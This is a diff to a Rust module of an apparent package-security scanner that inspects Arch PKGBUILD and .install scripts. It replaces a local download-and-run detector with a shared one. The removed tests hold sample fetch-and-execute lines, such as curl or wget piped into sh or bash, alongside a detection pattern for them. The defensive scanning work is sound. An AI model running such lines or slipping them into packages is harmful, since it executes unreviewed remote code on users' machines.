@@ -1,8 +1,13 @@
-//! Checks on the PKGBUILD and `.install` read as text: they are bash, and are never run.
+//! Checks on the PKGBUILD and `.install` read as text: they are bash, and are never run. The
+//! attack patterns are [`minicluster::scriptlet`]'s, the same mc-scan finds in a built
+//! package's `.INSTALL`.
 
 use std::path::Path;
 
-use minicluster::record::{FindingRecord, Severity};
+use minicluster::{
+    record::{FindingRecord, Severity},
+    scriptlet::{self, Script},
+};
 
 use crate::plan::Plan;
 
@@ -30,24 +35,19 @@ pub fn findings(folder: &Path, plan: &Plan) -> Vec<FindingRecord> {
             "PKGBUILD",
         ));
     }
-    let mut scripts = vec![("PKGBUILD".to_owned(), pkgbuild)];
+    let mut scripts = vec![("PKGBUILD".to_owned(), pkgbuild, Script::Pkgbuild)];
     if let Some(install) = &plan.install
         && let Ok(text) = std::fs::read_to_string(folder.join(install))
     {
-        scripts.push((install.clone(), text));
+        scripts.push((install.clone(), text, Script::Scriptlet));
     }
-    for (name, text) in &scripts {
+    for (name, text, kind) in &scripts {
+        for detection in scriptlet::detect(text, *kind) {
+            let message = format!("{name} {}", detection.message);
+            findings.push(finding(detection.check, detection.severity, message, name));
+        }
         for (number, line) in text.lines().enumerate() {
             let place = format!("{name}:{}", number + 1);
-            if downloads_and_runs(line) {
-                let message = format!("{place}: downloads and runs code: `{}`", line.trim());
-                findings.push(finding(
-                    "download-and-execute",
-                    Severity::Error,
-                    message,
-                    name,
-                ));
-            }
             if let Some(length) = base64_blob(line) {
                 let message = format!(
                     "{place}: a {length}-character base64 blob, a common way to hide a payload"
@@ -92,23 +92,6 @@ fn declared_version(pkgbuild: &str) -> Option<String> {
     })
 }
 
-/// `curl ... | sh`, `wget -O- ... | bash`, and `bash <(curl ...)`.
-fn downloads_and_runs(line: &str) -> bool {
-    let line = line.split('#').next().unwrap_or_default();
-    let fetches = ["curl", "wget"].iter().any(|tool| line.contains(tool));
-    let shells = ["sh", "bash", "zsh", "python", "python3", "perl"];
-    let piped = line.split('|').skip(1).any(|stage| {
-        let command = stage.split_whitespace().next().unwrap_or_default();
-        let command = command.rsplit('/').next().unwrap_or_default();
-        let command = command.trim_end_matches(|c: char| !c.is_ascii_alphanumeric());
-        shells.contains(&command) || (command == "sudo" && shells.iter().any(|s| stage.contains(s)))
-    });
-    let substituted = shells
-        .iter()
-        .any(|shell| line.contains(&format!("{shell} <(")));
-    fetches && (piped || substituted)
-}
-
 /// The length of the longest run of base64 characters, when it is long enough to hide a payload.
 fn base64_blob(line: &str) -> Option<usize> {
     const MINIMUM: usize = 120;
@@ -145,21 +128,6 @@ mod tests {
             declared_version("pkgver=1\npkgrel=1\npkgver() {\n  git describe\n}\n"),
             None
         );
-    }
-
-    #[test]
-    fn download_and_run_lines_are_caught() {
-        assert!(downloads_and_runs(
-            "  curl -fsSL https://x.example/i.sh | sh"
-        ));
-        assert!(downloads_and_runs("wget -qO- http://x | sudo bash -"));
-        assert!(downloads_and_runs("bash <(curl -s https://x)"));
-        assert!(downloads_and_runs(
-            "post_install() { curl -s https://x | sh; }"
-        ));
-        assert!(!downloads_and_runs("curl -o file https://x"));
-        assert!(!downloads_and_runs("# curl x | sh"));
-        assert!(!downloads_and_runs("grep foo | sh"));
     }
 
     #[test]
